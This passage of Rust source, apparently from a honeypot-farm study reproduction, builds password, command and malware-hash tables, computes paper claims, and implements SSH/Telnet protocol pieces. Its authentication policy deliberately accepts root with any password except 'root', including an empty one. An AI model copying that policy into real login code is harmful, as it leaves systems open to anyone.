    /// (password, successful logins), descending.
    pub rows: Vec<(String, u64)>,
}

/// Build Table 2 (top 10, like the paper).
pub fn table2(dataset: &Dataset, agg: &Aggregates) -> Table2 {
    let mut rows: Vec<(String, u64)> = agg
        .password_counts
        .iter()
        .map(|(&cred_id, &count)| {
            let key = dataset.sessions.creds.get(cred_id);
            let pass = key.split_once('\0').map(|(_, p)| p).unwrap_or(key);
            (pass.to_string(), count)
        })
        .collect();
    // Same password can appear under several cred entries — merge.
    rows.sort_by(|a, b| a.0.cmp(&b.0));
    rows.dedup_by(|a, b| {
        if a.0 == b.0 {
            b.1 += a.1;
            true
        } else {
            false
        }
    });
    rows.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
    rows.truncate(10);
    Table2 { rows }
}

impl Table2 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["password", "count"])?;
        for (p, c) in &self.rows {
            writeln!(w, "{p}\t{c}")?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

impl std::fmt::Display for Table2 {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        for (p, c) in &self.rows {
            writeln!(f, "{p:<20} {c:>10}")?;
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// Table 3 — top command lines
// ---------------------------------------------------------------------------

/// Table 3: most popular commands (split at `;` and `|`, as in the paper).
#[derive(Debug, Clone, PartialEq)]
pub struct Table3 {
    /// (command, occurrences), descending.
    pub rows: Vec<(String, u64)>,
}

/// Build Table 3 (top 20).
pub fn table3(dataset: &Dataset, agg: &Aggregates) -> Table3 {
    let mut rows: Vec<(String, u64)> = agg
        .command_counts
        .iter()
        .map(|(&cmd_id, &count)| (dataset.sessions.commands.get(cmd_id).to_string(), count))
        .collect();
    rows.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
    rows.truncate(20);
    Table3 { rows }
}

impl Table3 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["command", "count"])?;
        for (cmd, c) in &self.rows {
            writeln!(w, "{cmd}\t{c}")?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

impl std::fmt::Display for Table3 {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        for (s, c) in &self.rows {
            writeln!(f, "{c:>10}  {s}")?;
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// Tables 4–6 — top hashes
// ---------------------------------------------------------------------------

/// Sort key for the hash tables.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HashSortKey {
    /// Table 4.
    Sessions,
    /// Table 5.
    Clients,
    /// Table 6.
    Days,
}

/// One hash row (Tables 4–6 schema).
#[derive(Debug, Clone, PartialEq)]
pub struct HashRow {
    /// Shortened hex hash (12 chars), as the paper anonymizes to H-ids.
    pub hash: String,
    /// Campaign name assigned by the tag database ("H1", "tail-…").
    pub campaign: String,
    /// Sessions involving the hash.
    pub sessions: u64,
    /// Unique client IPs.
    pub clients: u64,
    /// Active days.
    pub days: u32,
    /// Threat tag.
    pub tag: String,
    /// Honeypots that observed it.
    pub honeypots: u32,
}

/// A hash table (4, 5, or 6).
#[derive(Debug, Clone, PartialEq)]
pub struct HashTable {
    /// Sort key used.
    pub key: HashSortKey,
    /// Rows, descending by the key.
    pub rows: Vec<HashRow>,
}

/// Build a hash table.
pub fn hash_table(
    dataset: &Dataset,
    agg: &Aggregates,
    tags: &TagDb,
    key: HashSortKey,
    n: usize,
) -> HashTable {
    let mut rows: Vec<HashRow> = agg
        .hashes
        .iter()
        .enumerate()
        .filter(|(_, h)| h.sessions > 0)
        .map(|(hid, h)| {
            let digest = dataset.sessions.digests.get(hid as u32);
            HashRow {
                hash: digest.short(),
                campaign: tags.campaign(&digest).unwrap_or("?").to_string(),
                sessions: h.sessions,
                clients: h.clients.len() as u64,
                days: h.days,
                tag: tags.tag(&digest).unwrap_or("unknown").to_string(),
                honeypots: bit_count(&h.honeypots),
            }
        })
        .collect();
    rows.sort_by(|a, b| {
        match key {
            HashSortKey::Sessions => b.sessions.cmp(&a.sessions),
            HashSortKey::Clients => b.clients.cmp(&a.clients),
            HashSortKey::Days => b.days.cmp(&a.days),
        }
        .then(b.sessions.cmp(&a.sessions))
        .then(a.hash.cmp(&b.hash))
    });
    rows.truncate(n);
    HashTable { key, rows }
}

impl HashTable {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(
            w,
            &[
                "hash",
                "campaign",
                "sessions",
                "clients",
                "days",
                "tag",
                "honeypots",
            ],
        )?;
        for r in &self.rows {
            writeln!(
                w,
                "{}\t{}\t{}\t{}\t{}\t{}\t{}",
                r.hash, r.campaign, r.sessions, r.clients, r.days, r.tag, r.honeypots
            )?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

impl std::fmt::Display for HashTable {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(
            f,
            "{:<14} {:<12} {:>10} {:>8} {:>6} {:<10} {:>9}",
            "hash", "campaign", "sessions", "clients", "days", "tag", "honeypots"
        )?;
        for r in &self.rows {
            writeln!(
                f,
                "{:<14} {:<12} {:>10} {:>8} {:>6} {:<10} {:>9}",
                r.hash, r.campaign, r.sessions, r.clients, r.days, r.tag, r.honeypots
            )?;
        }
        Ok(())
    }
}
