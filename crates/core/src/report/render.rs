//! Small rendering helpers shared by table/figure types.

/// Render rows of string cells as TSV with a header.
pub fn tsv(header: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut out = String::new();
    out.push_str(&header.join("\t"));
    out.push('\n');
    for row in rows {
        out.push_str(&row.join("\t"));
        out.push('\n');
    }
    out
}

/// Format a fraction as a percentage with two decimals.
pub fn pct(x: f64) -> String {
    format!("{:.2}%", x * 100.0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tsv_shape() {
        let s = tsv(&["a", "b"], vec![vec!["1".into(), "2".into()]]);
        assert_eq!(s, "a\tb\n1\t2\n");
    }

    #[test]
    fn pct_format() {
        assert_eq!(pct(0.1234), "12.34%");
        assert_eq!(pct(1.0), "100.00%");
    }
}
