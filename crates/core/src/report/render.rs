//! Small rendering helpers shared by table/figure types.
//!
//! Artifacts implement `write_tsv(&mut impl io::Write)` writing cells
//! directly with `write!` — no per-cell `String` allocation — and get their
//! `to_tsv() -> String` via [`to_string`]. `Report::write_dir` streams the
//! same writers through a `BufWriter` straight to disk.

use std::io::{self, Write};

/// Render rows of string cells as TSV with a header.
pub fn tsv(header: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut out = String::new();
    out.push_str(&header.join("\t"));
    out.push('\n');
    for row in rows {
        out.push_str(&row.join("\t"));
        out.push('\n');
    }
    out
}

/// Write a TSV header row.
pub fn write_header<W: Write>(w: &mut W, header: &[&str]) -> io::Result<()> {
    for (i, h) in header.iter().enumerate() {
        if i > 0 {
            w.write_all(b"\t")?;
        }
        w.write_all(h.as_bytes())?;
    }
    w.write_all(b"\n")
}

/// Run a `write_tsv`-style closure against an in-memory buffer and return
/// the result as a `String` (the `to_tsv` convenience path).
pub fn to_string(f: impl FnOnce(&mut Vec<u8>) -> io::Result<()>) -> String {
    let mut buf = Vec::new();
    f(&mut buf).expect("writing to a Vec cannot fail");
    String::from_utf8(buf).expect("TSV output is UTF-8")
}

/// Format a fraction as a percentage with two decimals.
pub fn pct(x: f64) -> String {
    format!("{:.2}%", x * 100.0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tsv_shape() {
        let s = tsv(&["a", "b"], vec![vec!["1".into(), "2".into()]]);
        assert_eq!(s, "a\tb\n1\t2\n");
    }

    #[test]
    fn writer_matches_string_path() {
        let via_writer = to_string(|w| {
            write_header(w, &["a", "b"])?;
            writeln!(w, "1\t2")
        });
        assert_eq!(
            via_writer,
            tsv(&["a", "b"], vec![vec!["1".into(), "2".into()]])
        );
    }

    #[test]
    fn pct_format() {
        assert_eq!(pct(0.1234), "12.34%");
        assert_eq!(pct(1.0), "100.00%");
    }
}
