//! The paper's headline scalar findings, computed from a dataset.
//!
//! These are the quantitative claims scattered through the text (not tied to
//! a single figure) that EXPERIMENTS.md compares paper-vs-measured:
//! top-10 honeypots hold ~14% of sessions, >60% of hashes are seen by exactly
//! one honeypot, ~40% of client IPs are multi-role, the hash-richest
//! honeypots are early observers, and so on.

use serde::Serialize;

use crate::aggregates::{bit_count, Aggregates};

/// Headline scalar findings.
#[derive(Debug, Clone, Serialize)]
pub struct Claims {
    /// Total sessions.
    pub total_sessions: u64,
    /// Distinct client IPs.
    pub total_clients: u64,
    /// Distinct hashes.
    pub total_hashes: u64,
    /// SSH share of all sessions (paper: 75.84%).
    pub ssh_share: f64,
    /// Share of sessions on the 10 busiest honeypots (paper: 14%).
    pub top10_session_share: f64,
    /// Max/min sessions-per-honeypot ratio (paper: >30×).
    pub session_spread: f64,
    /// Fraction of clients contacting exactly one honeypot (paper: ~40%).
    pub clients_single_honeypot: f64,
    /// Fraction contacting more than 10 (paper: 18%).
    pub clients_gt10_honeypots: f64,
    /// Fraction contacting more than half the farm (paper: 2%).
    pub clients_gt_half: f64,
    /// Fraction of clients active exactly one day (paper: >50%).
    pub clients_single_day: f64,
    /// Clients active on >90% of days (paper: >100 IPs).
    pub clients_almost_daily: u64,
    /// Fraction of clients appearing in more than one category (paper: ~40%).
    pub multi_role_share: f64,
    /// Fraction of hashes seen by exactly one honeypot (paper: >60%).
    pub hashes_single_honeypot: f64,
    /// Fraction of hashes seen at more than 10 honeypots (paper: >6.8%).
    pub hashes_gt10_honeypots: f64,
    /// Hashes seen by more than half the honeypots (paper: >200).
    pub hashes_gt_half: u64,
    /// Share of all hashes seen by the hash-richest honeypot (paper: <5%).
    pub top_honeypot_hash_share: f64,
    /// Fraction of command sessions (CMD + CMD+URI) that created/modified a
    /// file (paper: about one third).
    pub file_session_share: f64,
    /// Fraction of command sessions touching ≥2 files (paper: 0.5%).
    pub multi_file_share: f64,
    /// Spearman-style agreement check: are the top-10 honeypots by hash
    /// count also the top-10 by session count? (paper: no).
    pub hash_top10_equals_session_top10: bool,
    /// Mean rank (by hash-first-seen count) of the top-10 hash-richest
    /// honeypots — small means the hash-rich nodes see hashes first
    /// (paper: they do).
    pub hash_rich_are_early_observers: bool,
}

impl Claims {
    /// Compute all claims.
    pub fn compute(agg: &Aggregates) -> Claims {
        let total_sessions = agg.total_sessions;
        let ssh: u64 = agg.cat_ssh.iter().sum();

        // Honeypot session ranking.
        let mut hp_rank: Vec<usize> = (0..agg.n_honeypots).collect();
        hp_rank.sort_by(|&a, &b| agg.hp_sessions[b].cmp(&agg.hp_sessions[a]));
        let top10: u64 = hp_rank.iter().take(10).map(|&h| agg.hp_sessions[h]).sum();
        let max = agg.hp_sessions.iter().max().copied().unwrap_or(0);
        let min = agg
            .hp_sessions
            .iter()
            .filter(|&&s| s > 0)
            .min()
            .copied()
            .unwrap_or(1);

        // Client spread / lifetime.
        let n_clients = agg.clients.len().max(1) as f64;
        let mut single_hp = 0u64;
        let mut gt10 = 0u64;
        let mut gt_half = 0u64;
        let mut single_day = 0u64;
        let mut almost_daily = 0u64;
        let mut multi_role = 0u64;
        let half = (agg.n_honeypots / 2) as u32;
        for c in agg.clients.values() {
            let n = bit_count(&c.honeypots);
            if n == 1 {
                single_hp += 1;
            }
            if n > 10 {
                gt10 += 1;
            }
            if n > half {
                gt_half += 1;
            }
            if c.days == 1 {
                single_day += 1;
            }
            if c.days as f64 > agg.n_days as f64 * 0.9 {
                almost_daily += 1;
            }
            if c.cats.count_ones() > 1 {
                multi_role += 1;
            }
        }

        // Hash coverage.
        let live_hashes: Vec<&crate::aggregates::HashAgg> =
            agg.hashes.iter().filter(|h| h.sessions > 0).collect();
        let n_hashes = live_hashes.len().max(1) as f64;
        let h_single = live_hashes
            .iter()
            .filter(|h| bit_count(&h.honeypots) == 1)
            .count();
        let h_gt10 = live_hashes
            .iter()
            .filter(|h| bit_count(&h.honeypots) > 10)
            .count();
        let h_gt_half = live_hashes
            .iter()
            .filter(|h| bit_count(&h.honeypots) > half)
            .count() as u64;
        let top_hp_hashes = agg.hp_hashes.iter().map(|s| s.len()).max().unwrap_or(0);

        // Hash-rich vs session-rich honeypots.
        let mut hash_rank: Vec<usize> = (0..agg.n_honeypots).collect();
        hash_rank.sort_by(|&a, &b| agg.hp_hashes[b].len().cmp(&agg.hp_hashes[a].len()));
        let hash_top10: std::collections::BTreeSet<usize> =
            hash_rank.iter().take(10).copied().collect();
        let session_top10: std::collections::BTreeSet<usize> =
            hp_rank.iter().take(10).copied().collect();

        // Early-observer check: the hash-richest 10% of honeypots should hold
        // a disproportionate share of first sightings.
        let k = (agg.n_honeypots / 10).max(1);
        let first_in_rich: u64 = hash_rank
            .iter()
            .take(k)
            .map(|&h| agg.hp_first_hashes[h] as u64)
            .sum();
        let total_first: u64 = agg.hp_first_hashes.iter().map(|&x| x as u64).sum();
        let early = total_first > 0
            && first_in_rich as f64 / total_first as f64 > k as f64 / agg.n_honeypots as f64 * 1.5;

        // Command sessions and file involvement.
        let cmd_sessions = agg.cat_totals[3] + agg.cat_totals[4];

        Claims {
            total_sessions,
            total_clients: agg.clients.len() as u64,
            total_hashes: live_hashes.len() as u64,
            ssh_share: ssh as f64 / total_sessions.max(1) as f64,
            top10_session_share: top10 as f64 / total_sessions.max(1) as f64,
            session_spread: max as f64 / min as f64,
            clients_single_honeypot: single_hp as f64 / n_clients,
            clients_gt10_honeypots: gt10 as f64 / n_clients,
            clients_gt_half: gt_half as f64 / n_clients,
            clients_single_day: single_day as f64 / n_clients,
            clients_almost_daily: almost_daily,
            multi_role_share: multi_role as f64 / n_clients,
            hashes_single_honeypot: h_single as f64 / n_hashes,
            hashes_gt10_honeypots: h_gt10 as f64 / n_hashes,
            hashes_gt_half: h_gt_half,
            top_honeypot_hash_share: top_hp_hashes as f64 / n_hashes,
            file_session_share: agg.file_sessions.0 as f64 / cmd_sessions.max(1) as f64,
            multi_file_share: agg.file_sessions.1 as f64 / cmd_sessions.max(1) as f64,
            hash_top10_equals_session_top10: hash_top10 == session_top10,
            hash_rich_are_early_observers: early,
        }
    }

    /// JSON rendering (for EXPERIMENTS.md tooling).
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("claims serialize")
    }
}

impl std::fmt::Display for Claims {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(f, "sessions            {:>14}", self.total_sessions)?;
        writeln!(f, "clients             {:>14}", self.total_clients)?;
        writeln!(f, "hashes              {:>14}", self.total_hashes)?;
        writeln!(f, "ssh share           {:>13.2}%", self.ssh_share * 100.0)?;
        writeln!(
            f,
            "top10 session share {:>13.2}%",
            self.top10_session_share * 100.0
        )?;
        writeln!(f, "session spread      {:>13.1}x", self.session_spread)?;
        writeln!(
            f,
            "1-honeypot clients  {:>13.2}%",
            self.clients_single_honeypot * 100.0
        )?;
        writeln!(
            f,
            ">10-honeypot clients{:>13.2}%",
            self.clients_gt10_honeypots * 100.0
        )?;
        writeln!(
            f,
            ">half-farm clients  {:>13.2}%",
            self.clients_gt_half * 100.0
        )?;
        writeln!(
            f,
            "1-day clients       {:>13.2}%",
            self.clients_single_day * 100.0
        )?;
        writeln!(f, "near-daily clients  {:>14}", self.clients_almost_daily)?;
        writeln!(
            f,
            "multi-role clients  {:>13.2}%",
            self.multi_role_share * 100.0
        )?;
        writeln!(
            f,
            "1-honeypot hashes   {:>13.2}%",
            self.hashes_single_honeypot * 100.0
        )?;
        writeln!(f, ">half-farm hashes   {:>14}", self.hashes_gt_half)?;
        writeln!(
            f,
            "top honeypot hashes {:>13.2}%",
            self.top_honeypot_hash_share * 100.0
        )?;
        writeln!(
            f,
            "file sessions/CMD   {:>13.2}%",
            self.file_session_share * 100.0
        )?;
        writeln!(
            f,
            "hash-top10 == session-top10: {}",
            self.hash_top10_equals_session_top10
        )?;
        writeln!(
            f,
            "hash-rich are early observers: {}",
            self.hash_rich_are_early_observers
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_sim::{SimConfig, Simulation};

    #[test]
    fn claims_compute_on_small_run() {
        let out = Simulation::run(SimConfig::test(10));
        let agg = Aggregates::compute(&out.dataset);
        let c = Claims::compute(&agg);
        assert_eq!(c.total_sessions, out.dataset.len() as u64);
        assert!(c.ssh_share > 0.4 && c.ssh_share < 0.95, "{}", c.ssh_share);
        assert!(c.clients_single_honeypot > 0.1);
        // The paper-level >60% single-honeypot-hash claim is asserted at
        // proper scale in tests/paper_claims.rs; a 10-day tiny run only has
        // to show the long tail exists.
        assert!(c.hashes_single_honeypot > 0.05);
        assert!((0.0..=1.0).contains(&c.multi_role_share));
        // Display and JSON render without panicking.
        let _ = c.to_string();
        let _ = c.to_json();
    }
}
