//! Deterministic multiply-mix hashing for interned `u32` ids.
//!
//! The aggregation fold keys almost every map and set by a small dense id —
//! an interned pool index or an IPv4 address packed into a `u32`. The
//! default `SipHash` hasher is engineered to resist collision attacks from
//! adversarial keys, a property these ids cannot exploit: they come out of
//! our own interning pools and the simulator's address plan, not from
//! untrusted input. Paying ~20 ns of SipHash per map operation, several
//! times per row, dominates the whole streaming fold at paper scale.
//!
//! [`IdHasher`] replaces it with one 64-bit multiply and an xor-shift:
//!
//! * the odd-constant multiply is bijective on `u64`, so distinct ids can
//!   only collide through table masking, and the Weyl/golden-ratio constant
//!   spreads the *sequential* ids interning produces across the high bits;
//! * the final `h ^ (h >> 32)` folds those high bits back into the low
//!   bits hashbrown masks for the bucket index (the top 7 bits feed its
//!   control-byte tags either way).
//!
//! The hash is a pure function of the key — no per-map random seed — so
//! rebuilding the same map yields the same layout. Nothing downstream may
//! rely on that: every consumer of the aggregate maps already tolerates
//! `RandomState`'s per-run ordering (outputs sort or reduce commutatively),
//! which is exactly what makes this swap output-invariant.

use std::collections::{HashMap, HashSet};
use std::hash::{BuildHasher, Hasher};

/// 2^64 / φ, forced odd — the classic Fibonacci-hashing multiplier.
const GOLDEN: u64 = 0x9E37_79B9_7F4A_7C15;

/// One-shot multiply-mix hasher for `u32` (and other small integer) keys.
#[derive(Clone, Copy, Default)]
pub struct IdHasher(u64);

impl IdHasher {
    #[inline]
    fn mix(&mut self, word: u64) {
        // Rotate before combining so multi-word keys (tuples, byte slices)
        // don't cancel; for the single-u32 common case this is one rotate,
        // one xor, one multiply.
        self.0 = (self.0.rotate_left(5) ^ word).wrapping_mul(GOLDEN);
    }
}

impl Hasher for IdHasher {
    #[inline]
    fn finish(&self) -> u64 {
        // Fold the well-mixed high bits into the low bits the hash table
        // masks for its bucket index.
        self.0 ^ (self.0 >> 32)
    }

    #[inline]
    fn write(&mut self, bytes: &[u8]) {
        for chunk in bytes.chunks(8) {
            let mut buf = [0u8; 8];
            buf[..chunk.len()].copy_from_slice(chunk);
            self.mix(u64::from_le_bytes(buf));
        }
    }

    #[inline]
    fn write_u32(&mut self, n: u32) {
        self.mix(n as u64);
    }

    #[inline]
    fn write_u64(&mut self, n: u64) {
        self.mix(n);
    }

    #[inline]
    fn write_usize(&mut self, n: usize) {
        self.mix(n as u64);
    }
}

/// Zero-sized, seedless builder: every map built with it hashes alike.
#[derive(Clone, Copy, Default, Debug, PartialEq, Eq)]
pub struct BuildIdHasher;

impl BuildHasher for BuildIdHasher {
    type Hasher = IdHasher;

    #[inline]
    fn build_hasher(&self) -> IdHasher {
        IdHasher::default()
    }
}

/// `HashMap` keyed by an interned `u32` id.
pub type IdMap<V> = HashMap<u32, V, BuildIdHasher>;

/// `HashSet` of interned `u32` ids.
pub type IdSet = HashSet<u32, BuildIdHasher>;

#[cfg(test)]
mod tests {
    use super::*;

    fn hash_one(n: u32) -> u64 {
        let mut h = BuildIdHasher.build_hasher();
        h.write_u32(n);
        h.finish()
    }

    #[test]
    fn deterministic_across_builders() {
        for n in [0u32, 1, 0xdead_beef, u32::MAX] {
            assert_eq!(hash_one(n), hash_one(n));
        }
    }

    #[test]
    fn sequential_ids_spread_over_low_bits() {
        // Interned ids are sequential; the low 16 bits (bucket index at
        // realistic table sizes) must not collapse onto a few buckets.
        let mut buckets = HashSet::new();
        for n in 0u32..4096 {
            buckets.insert(hash_one(n) & 0xFFFF);
        }
        assert!(
            buckets.len() > 3500,
            "only {} distinct buckets",
            buckets.len()
        );
    }

    #[test]
    fn map_and_set_round_trip() {
        let mut m: IdMap<u64> = IdMap::default();
        let mut s: IdSet = IdSet::default();
        for n in 0u32..1000 {
            *m.entry(n % 97).or_default() += 1;
            s.insert(n % 53);
        }
        assert_eq!(m.len(), 97);
        assert_eq!(m[&0], 11);
        assert_eq!(s.len(), 53);
    }

    #[test]
    fn multi_word_writes_do_not_cancel() {
        let mut a = IdHasher::default();
        a.write_u32(1);
        a.write_u32(2);
        let mut b = IdHasher::default();
        b.write_u32(2);
        b.write_u32(1);
        assert_ne!(a.finish(), b.finish());
    }
}
