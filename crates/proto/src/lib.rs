//! Protocol substrate for the honeyfarm honeypot.
//!
//! Cowrie speaks two attack-facing protocols: SSH (port 22) and Telnet
//! (port 23). The paper's analysis uses exactly three protocol-level facts:
//! which protocol a session used, the client's SSH version string from the
//! identification exchange, and the credentials offered at login. This crate
//! implements those pieces from scratch:
//!
//! - [`ssh_ident`]: RFC 4253 §4.2 identification-string generation and
//!   parsing (the plaintext `SSH-2.0-...` exchange that precedes key
//!   exchange) plus a catalog of client banners seen in the wild,
//! - [`telnet`]: a minimal Telnet NVT codec — IAC command/option negotiation
//!   and line extraction, enough to drive a login dialogue,
//! - [`creds`]: username/password credentials and the honeypot auth policy
//!   type.
//!
//! Full SSH cryptography is intentionally out of scope (see DESIGN.md): the
//! paper never inspects it, and the honeypot's analytical surface — banner,
//! credentials, shell activity — is preserved without it.

pub mod creds;
pub mod ssh_ident;
pub mod telnet;

use serde::{Deserialize, Serialize};

/// Attack-facing protocol of a session.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Protocol {
    /// SSH on port 22.
    Ssh,
    /// Telnet on port 23.
    Telnet,
}

impl Protocol {
    /// Well-known TCP port.
    pub fn port(self) -> u16 {
        match self {
            Protocol::Ssh => 22,
            Protocol::Telnet => 23,
        }
    }

    /// Label used in logs and tables.
    pub fn label(self) -> &'static str {
        match self {
            Protocol::Ssh => "ssh",
            Protocol::Telnet => "telnet",
        }
    }
}

impl std::fmt::Display for Protocol {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ports() {
        assert_eq!(Protocol::Ssh.port(), 22);
        assert_eq!(Protocol::Telnet.port(), 23);
    }

    #[test]
    fn labels() {
        assert_eq!(Protocol::Ssh.to_string(), "ssh");
        assert_eq!(Protocol::Telnet.to_string(), "telnet");
    }
}
