//! Credentials and the honeypot's authentication policy.
//!
//! Section 4 of the paper describes the farm's policy precisely: only
//! password auth; the username must be `root`; any password is accepted
//! *except* the literal string `root`; public-key auth is unsupported; the
//! same rules apply to Telnet. [`AuthPolicy`] encodes that as data so tests
//! and ablations can vary it.

use serde::{Deserialize, Serialize};

/// A username/password pair offered at login.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Credentials {
    /// Login name.
    pub username: String,
    /// Password string.
    pub password: String,
}

impl Credentials {
    /// Convenience constructor.
    pub fn new(username: &str, password: &str) -> Self {
        Credentials {
            username: username.to_string(),
            password: password.to_string(),
        }
    }
}

impl std::fmt::Display for Credentials {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}:{}", self.username, self.password)
    }
}

/// Outcome of an authentication attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum AuthOutcome {
    /// Credentials accepted; the client gets a shell.
    Accepted,
    /// Credentials rejected; the client may retry (up to the attempt cap).
    Rejected,
}

/// The honeypot's authentication policy.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuthPolicy {
    /// The only username that can succeed.
    pub required_username: String,
    /// Passwords that are explicitly denied even for the right username.
    pub denied_passwords: Vec<String>,
    /// Maximum login attempts per session before disconnect.
    pub max_attempts: u32,
}

impl Default for AuthPolicy {
    fn default() -> Self {
        Self::paper()
    }
}

impl AuthPolicy {
    /// The paper's policy: root / anything-but-"root", three attempts.
    pub fn paper() -> Self {
        AuthPolicy {
            required_username: "root".to_string(),
            denied_passwords: vec!["root".to_string()],
            max_attempts: 3,
        }
    }

    /// Evaluate one attempt.
    pub fn check(&self, creds: &Credentials) -> AuthOutcome {
        if creds.username == self.required_username
            && !self.denied_passwords.contains(&creds.password)
        {
            AuthOutcome::Accepted
        } else {
            AuthOutcome::Rejected
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_policy_accepts_root_with_any_other_password() {
        let p = AuthPolicy::paper();
        assert_eq!(
            p.check(&Credentials::new("root", "1234")),
            AuthOutcome::Accepted
        );
        assert_eq!(
            p.check(&Credentials::new("root", "admin")),
            AuthOutcome::Accepted
        );
        assert_eq!(
            p.check(&Credentials::new("root", "")),
            AuthOutcome::Accepted
        );
    }

    #[test]
    fn paper_policy_rejects_root_root() {
        let p = AuthPolicy::paper();
        assert_eq!(
            p.check(&Credentials::new("root", "root")),
            AuthOutcome::Rejected
        );
    }

    #[test]
    fn paper_policy_rejects_non_root_users() {
        let p = AuthPolicy::paper();
        for user in ["admin", "user", "nproc", "ubuntu"] {
            assert_eq!(
                p.check(&Credentials::new(user, "password")),
                AuthOutcome::Rejected,
                "user {user} must be rejected"
            );
        }
    }

    #[test]
    fn max_attempts_is_three() {
        assert_eq!(AuthPolicy::paper().max_attempts, 3);
    }
}
