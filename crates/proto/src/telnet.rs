//! Minimal Telnet NVT codec (RFC 854/855 subset).
//!
//! The honeypot needs just enough Telnet to run a login dialogue with IoT
//! malware and scan tools: strip/answer IAC option negotiation, decode the
//! data stream into lines, and encode responses. Commands covered are the
//! negotiation verbs (WILL/WONT/DO/DONT + option byte), sub-negotiation
//! framing (SB ... SE), and the escaped literal 0xFF byte.

use bytes::{BufMut, BytesMut};
use serde::{Deserialize, Serialize};

/// Interpret-As-Command escape byte.
pub const IAC: u8 = 255;
/// Option negotiation verbs.
pub const DONT: u8 = 254;
pub const DO: u8 = 253;
pub const WONT: u8 = 252;
pub const WILL: u8 = 251;
/// Sub-negotiation start / end.
pub const SB: u8 = 250;
pub const SE: u8 = 240;

/// Upper bound on a buffered sub-negotiation payload. A peer that opens
/// `IAC SB` and never closes it would otherwise grow the buffer without
/// limit; past the cap the extra bytes are dropped (the event still fires
/// with the truncated payload when `IAC SE` finally arrives). 4 KiB is far
/// beyond any legitimate NAWS/TERMINAL-TYPE payload.
pub const MAX_SUB: usize = 4096;

/// Commonly negotiated options.
pub mod option {
    /// Echo (RFC 857).
    pub const ECHO: u8 = 1;
    /// Suppress Go Ahead (RFC 858).
    pub const SGA: u8 = 3;
    /// Terminal type (RFC 1091).
    pub const TERMINAL_TYPE: u8 = 24;
    /// Negotiate About Window Size (RFC 1073).
    pub const NAWS: u8 = 31;
}

/// An event decoded from the Telnet byte stream.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum TelnetEvent {
    /// Plain data bytes (with IAC IAC unescaped to a single 0xFF).
    Data(Vec<u8>),
    /// An option negotiation: verb (WILL/WONT/DO/DONT) + option byte.
    Negotiate { verb: u8, opt: u8 },
    /// A sub-negotiation payload for an option.
    Subnegotiation { opt: u8, data: Vec<u8> },
    /// A bare two-byte command (IAC x) other than negotiation/SB.
    Command(u8),
}

/// Decoder state machine for the Telnet stream.
#[derive(Debug, Clone, Default)]
pub struct TelnetDecoder {
    state: State,
    /// Sub-negotiation buffer (option byte + payload so far).
    sub: Vec<u8>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
enum State {
    #[default]
    Data,
    Iac,
    Verb(u8),
    Sub,
    SubIac,
}

impl TelnetDecoder {
    /// Fresh decoder.
    pub fn new() -> Self {
        Self::default()
    }

    /// Feed bytes; returns the events completed by this chunk.
    /// Incomplete sequences are retained across calls.
    pub fn feed(&mut self, input: &[u8]) -> Vec<TelnetEvent> {
        let mut events = Vec::new();
        let mut data = Vec::new();
        for &b in input {
            match self.state {
                State::Data => {
                    if b == IAC {
                        self.state = State::Iac;
                    } else {
                        data.push(b);
                    }
                }
                State::Iac => match b {
                    IAC => {
                        // Escaped literal 0xFF.
                        data.push(IAC);
                        self.state = State::Data;
                    }
                    WILL | WONT | DO | DONT => self.state = State::Verb(b),
                    SB => {
                        self.flush_data(&mut data, &mut events);
                        self.sub.clear();
                        self.state = State::Sub;
                    }
                    other => {
                        self.flush_data(&mut data, &mut events);
                        events.push(TelnetEvent::Command(other));
                        self.state = State::Data;
                    }
                },
                State::Verb(verb) => {
                    self.flush_data(&mut data, &mut events);
                    events.push(TelnetEvent::Negotiate { verb, opt: b });
                    self.state = State::Data;
                }
                State::Sub => {
                    if b == IAC {
                        self.state = State::SubIac;
                    } else {
                        self.sub_push(b);
                    }
                }
                State::SubIac => {
                    if b == SE {
